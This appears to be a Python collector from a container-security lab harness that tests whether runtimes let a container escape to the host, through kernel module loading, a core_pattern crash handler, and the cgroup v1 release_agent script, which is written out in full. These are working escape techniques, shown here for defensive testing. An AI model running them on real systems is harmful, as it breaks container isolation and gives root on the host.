"""Edition 2026, task 4, beyond the sheet: escapes that have the host's kernel run code of the container."""

import gzip
import lzma
import re
from pathlib import Path

from collectors.lab12.escapes import OWN_PROC, mounted
from collectors.lab12.sheet_2026 import IMAGE, NEEDS
from collectors.lab12.smoke import smoke
from labreport.capture import NotApplicable, Run, Unavailable, collector, recorder
from labreport.containers.ctr import RUNTIMES
from labreport.containers.escapes import (
    ALL_CAPABILITIES,
    Escape,
    Trial,
    attempt,
    attempt_in_each,
    new_trial,
)

MODULES = ("crc8", "crc7", "dummy")
"""Kernel modules that do no harm and are rarely loaded."""

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")

AGENT = r"""
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -n 1)
id=$(sed -n 's,.*/,,p;q' /proc/1/cgroup)
root=${upper:-/run/kata-containers/$id/rootfs}
mkdir /groups && mount -t cgroup -o none,name=escape escape /groups && mkdir /groups/one
echo 1 >/groups/one/notify_on_release && echo "$root/agent" >/groups/release_agent
sh -c 'echo $$ >/groups/one/cgroup.procs'
sleep 3; rmdir /groups/one; umount /groups
"""
"""Mounts a cgroup hierarchy with one group. When the last process of the group ends, the kernel runs the
agent. Its path outside the container is read from the root mount: the overlay of runc, or else Kata's folder
in the guest."""


def uncompressed(path: Path) -> bytes:
    """Return a kernel module as the kernel loads it; raise Unavailable for an unknown compression."""
    data = path.read_bytes()
    match path.suffix:
        case ".ko":
            return data
        case ".xz":
            return lzma.decompress(data)
        case ".gz":
            return gzip.decompress(data)
    raise Unavailable(f"{path.name}: compressed in a way that Python cannot read", "decompress it in place")


def unloaded_module(folder: Path) -> str:
    """Copy a module of the host that is not loaded to `folder`/module.ko; return its name.

    Raise NotApplicable if the host has none of MODULES, or if all are loaded.
    """
    loaded = Path("/proc/modules").read_text().split()
    for name in MODULES:
        path = recorder.output(["modinfo", "--field", "filename", name])
        if name not in loaded and path.startswith("/"):
            (folder / "module.ko").write_bytes(uncompressed(Path(path)))
            return name
    raise NotApplicable(
        f"the host's kernel has none of the modules {', '.join(MODULES)} that is not loaded yet"
    )


@collector(edition=2026, task=4, writes=["escapes/module.txt"], needs=NEEDS, after=[smoke], role="escape")
def module(run: Run) -> None:
    """A kernel module loaded from a container: does the host's kernel load it?"""
    with run.file("escapes/module.txt") as out:
        for name, runtime in RUNTIMES.items():
            trial = new_trial(run, IMAGE)
            module_name = unloaded_module(trial.folder)
            undo = run.undo(["rmmod", module_name])
            escape = Escape(
                trial,
                target=f"the host's kernel, which is to load its own module {module_name}",
                proof="the host's list of modules has it afterwards",
                script="insmod /host/module.ko",
                look=["cat", "/proc/modules"],
                shows=rf"(?m)^{module_name} ",
                options=[*ALL_CAPABILITIES, *mounted(trial)],
                changes=[rf"^\+{module_name}$"],
            )
            out.line(f"=== {name} ===")
            attempt(run, out, escape, runtime)
            undo()


@collector(
    edition=2026, task=4, writes=["escapes/core-pattern.txt"], needs=NEEDS, after=[smoke], role="escape"
)
def core_pattern(run: Run) -> None:
    """A program set as the handler of crashes: does the host's kernel accept it?"""
    before = CORE_PATTERN.read_text()
    with run.file("escapes/core-pattern.txt") as out:
        for name, runtime in RUNTIMES.items():
            trial = new_trial(run, IMAGE)
            undo = run.undo(["sh", "-c", 'printf %s "$1" >/proc/sys/kernel/core_pattern', "undo", before])
            escape = Escape(
                trial,
                target="the program that the host's kernel starts, as root, for every crash",
                proof="the host's core_pattern holds the marker",
                script=f"{OWN_PROC} && echo '|/{trial.marker}' >/own-proc/sys/kernel/core_pattern",
                look=["cat", str(CORE_PATTERN)],
                options=ALL_CAPABILITIES,
                changes=[r"^-kernel\.core_pattern = ", rf"^\+kernel\.core_pattern = \|/{trial.marker}"],
            )
            out.line(f"=== {name} ===")
            attempt(run, out, escape, runtime)
            undo()


def as_release_agent(trial: Trial) -> Escape:
    """Return an escape that has the kernel run a program from the container."""
    return Escape(
        trial,
        target="the program that the host's kernel starts for a cgroup of version 1 that becomes empty",
        proof="that program, run by the host's kernel, wrote the marker into a file in the host's /etc",
        script=f"printf '#!/bin/sh\\necho {trial.marker} >{trial.file}\\n' >/agent; chmod 755 /agent{AGENT}",
        look=["cat", str(trial.file)],
        options=ALL_CAPABILITIES,
        changes=[rf"^\+{trial.file} "],
    )


@collector(
    edition=2026, task=4, writes=["escapes/release-agent.txt"], needs=NEEDS, after=[smoke], role="escape"
)
def release_agent(run: Run) -> None:
    """A program set as the release agent of a cgroup: does the host's kernel run it?"""
    if not re.search(r"\tcgroup$", Path("/proc/filesystems").read_text(), re.MULTILINE):
        raise NotApplicable("the host's kernel has no cgroups of version 1, and so no release_agent")
    attempt_in_each(run, "escapes/release-agent.txt", IMAGE, as_release_agent)
